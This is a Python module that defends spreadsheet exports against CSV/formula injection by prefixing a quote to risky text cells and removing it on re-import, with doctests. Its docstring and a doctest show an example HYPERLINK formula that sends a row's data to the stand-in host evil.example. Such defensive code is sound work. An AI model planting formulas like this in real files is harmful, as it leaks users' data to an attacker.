"""Text that a spreadsheet would run as a formula, written so that it stays text.

Excel, LibreOffice Calc and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula when they open a CSV file, or when a cell of an XLSX file is edited; a
tab or a carriage return in front does not stop them. A work titled
``=HYPERLINK("https://evil.example/?d="&B2,"Klik")`` would then send the row's data to
whoever made the title, once somebody clicks. Following OWASP's advice on CSV injection,
such text is written with a single quote in front, which spreadsheets show as text:
:func:`neutralise`. Every CSV and XLSX KIP writes passes its text cells through it
(:mod:`kip.io.writers`); numbers, dates and booleans are not text and stay what they are.

An export re-imports unchanged: reading a CSV, :func:`restore` takes the quote off again.
So that this is exact, text that already starts with quotes before such a character gets
one more (``'=x`` is written ``''=x``).
"""

from __future__ import annotations

# What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    r"""``text`` as a spreadsheet cell that stays text.

    >>> neutralise('=HYPERLINK("https://evil.example/?d="&B2,"Klik")')
    '\'=HYPERLINK("https://evil.example/?d="&B2,"Klik")'
    >>> neutralise("+31 6 12345678"), neutralise("@SUM(A1)"), neutralise("\t=1")
    ("'+31 6 12345678", "'@SUM(A1)", "'\t=1")
    >>> neutralise("Kabel Stationsweg"), neutralise(""), neutralise("'quoted'")
    ('Kabel Stationsweg', '', "'quoted'")
    >>> neutralise("'=x")
    "''=x"
    """
    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    r"""The text :func:`neutralise` was given.

    >>> restore("'+31 6 12345678"), restore("''=x"), restore("'quoted'"), restore("-")
    ('+31 6 12345678', "'=x", "'quoted'", '-')
    """
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
        return text[1:]
    return text


__all__ = ["FORMULA_STARTS", "neutralise", "restore"]
